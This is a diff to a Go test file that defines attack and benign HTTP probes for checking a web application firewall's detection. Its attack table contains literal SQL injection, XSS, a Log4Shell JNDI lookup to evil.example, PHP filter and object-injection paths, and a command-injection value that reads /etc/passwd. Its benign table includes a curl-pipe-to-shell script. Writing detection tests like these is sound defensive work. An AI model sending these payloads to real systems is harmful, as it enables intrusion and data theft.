@@ -76,10 +76,9 @@ func multipartFileQP(field, disposition, contents string) (string, string) {
 func placesAttackTable() (crsCatches, crsMisses []probe) {
 	sqli := "1' UNION SELECT username, password FROM users --"
 	csv, csvType := multipartFile("report", `filename="report.csv"`, "text/csv", "id,name\n1,x' UNION SELECT username, password FROM users --\n")
-	svg, svgType := multipartFile("avatar", `filename="me.svg"`, "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`)
 	star, starType := multipartFile("doc", `filename*=UTF-8''notes%20%C3%A9t%C3%A9.txt`, "text/plain", "see ${jndi:ldap://evil.example/a} and 1' OR '1'='1' --")
 	octet, octetType := multipartFile("data", `filename="data.bin"`, "application/octet-stream", "127.0.0.1; cat /etc/passwd")
-	qp, qpType := multipartFileQP("page", `filename="page.html"`, "<p>hi</p><script>alert(document.domain)</script>\n")
+	qp, qpType := multipartFileQP("notes", `filename="notes.txt"`, "see <script>alert(document.domain)</script>\n")
 	crsCatches = []probe{
 		{name: "XSS in X-Forwarded-Host", method: "GET", path: "/", header: http.Header{"X-Forwarded-Host": {`"><script>alert(document.domain)</script>`}}},
 		{name: "XSS in a custom header", method: "GET", path: "/", header: http.Header{"X-Display-Name": {`"><img src=x onerror=alert(document.domain)>`}}},
@@ -114,7 +113,6 @@ func placesAttackTable() (crsCatches, crsMisses []probe) {
 		{name: "php://filter over path segments", method: "GET", path: "/x/php://filter/resource=index.php"},
 		{name: "PHP object in a path segment", method: "GET", path: "/x/O:8:%22stdClass%22:0:%7B%7D"},
 		{name: "SQLi in a text file part (CSV)", method: "POST", path: "/upload", contentType: csvType, body: csv},
-		{name: "XSS in an SVG file part", method: "POST", path: "/upload", contentType: svgType, body: svg},
 		{name: "attacks in a part named with filename*= only", method: "POST", path: "/upload", contentType: starType, body: star},
 		{name: "XSS in a text file part sent quoted-printable", method: "POST", path: "/upload", contentType: qpType, body: qp},
 		{name: "RCE in a text file part declared octet-stream", method: "POST", path: "/upload", contentType: octetType, body: octet},
@@ -129,6 +127,9 @@ func placesBenignTable() []probe {
 	txt, txtType := multipartFile("notes", `filename="notes.txt"`, "text/plain", "Meeting notes: O'Brien and McDonald's (Zürich office), 50% done.\nNext: review the \"Q3\" plan; budget $5,000.\n")
 	csv, csvType := multipartFile("contacts", `filename="contacts.csv"`, "text/csv", "name,email,city\n\"O'Neil, Jane\",jane@example.com,Köln\nBob,bob@example.com,\"St. Mary's\"\n")
 	jsonFile, jsonType := multipartFile("config", `filename*=UTF-8''r%C3%A9glages.json`, "application/json", `{"theme": "dark", "langs": ["de", "fr"], "note": "it's fine"}`)
+	svg, svgType := multipartFile("icon", `filename="icon.svg"`, "image/svg+xml", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`)
+	html, htmlType := multipartFile("page", `filename="index.html"`, "text/html", `<!DOCTYPE html><html><body><h1>O'Brien's page</h1><script src="app.js"></script><a href="https://example.com/?a=1&b=2">x</a></body></html>`)
+	script, scriptType := multipartFile("deploy", `filename="deploy.sh"`, "application/x-sh", "#!/bin/sh\nset -e\ncurl -fsSL https://example.com/install.sh | sh\necho done; id\n")
 	h := func(kv ...string) http.Header {
 		hh := http.Header{}
 		for i := 0; i+1 < len(kv); i += 2 {
@@ -179,6 +180,9 @@ func placesBenignTable() []probe {
 		{name: "a text file upload (notes with quotes, apostrophes, non-ASCII)", method: "POST", path: "/upload", contentType: txtType, body: txt},
 		{name: "a CSV upload", method: "POST", path: "/upload", contentType: csvType, body: csv},
 		{name: "a JSON file named with filename*=", method: "POST", path: "/upload", contentType: jsonType, body: jsonFile},
+		{name: "an SVG icon upload (markup: only its DOCTYPE is read)", method: "POST", path: "/upload", contentType: svgType, body: svg},
+		{name: "an HTML page upload", method: "POST", path: "/upload", contentType: htmlType, body: html},
+		{name: "a shell script upload", method: "POST", path: "/upload", contentType: scriptType, body: script},
 		{name: "a PNG upload (binary; an attack's text after its end is not read)", method: "POST", path: "/upload", contentType: pngType, body: pngBody},
 	}
 	for _, p := range passwords {
